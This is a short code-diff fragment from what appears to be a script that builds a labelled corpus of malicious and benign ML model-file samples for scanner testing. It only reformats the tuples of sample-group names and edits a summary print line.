-_MALICIOUS = (_pickle_samples, _container_samples, _torchscript_samples, _weights_samples, _template_samples,
-              _hf_samples, _onnx_samples, _keras_samples, _savedmodel_samples)
-_BENIGN = (_benign_pickles, _benign_torch, _benign_arrays_and_weights, _benign_templates_and_hf, _benign_graphs,
-           _benign_archives)
+_MALICIOUS = (
+    _pickle_samples,
+    _container_samples,
+    _torchscript_samples,
+    _weights_samples,
+    _template_samples,
+    _hf_samples,
+    _onnx_samples,
+    _keras_samples,
+    _savedmodel_samples,
+)
+_BENIGN = (
+    _benign_pickles,
+    _benign_torch,
+    _benign_arrays_and_weights,
+    _benign_templates_and_hf,
+    _benign_graphs,
+    _benign_archives,
+)
 
 
 def build_corpus(folder: Path) -> list[Sample]:
@@ -1010,5 +1551,5 @@ def main(argv: list[str] | None = None) -> int:
     samples = build_corpus(args.folder)
     write_manifest(args.folder, samples)
     counts = {label: sum(s.label == label for s in samples) for label in ("malicious", "benign")}
-    print(f"{len(samples)} samples ({counts['malicious']} malicious, {counts['benign']} benign) in {args.folder}")
+    print(f"{len(samples)} samples ({counts['malicious']} malicious, {counts['benign']} benign)")
     return 0
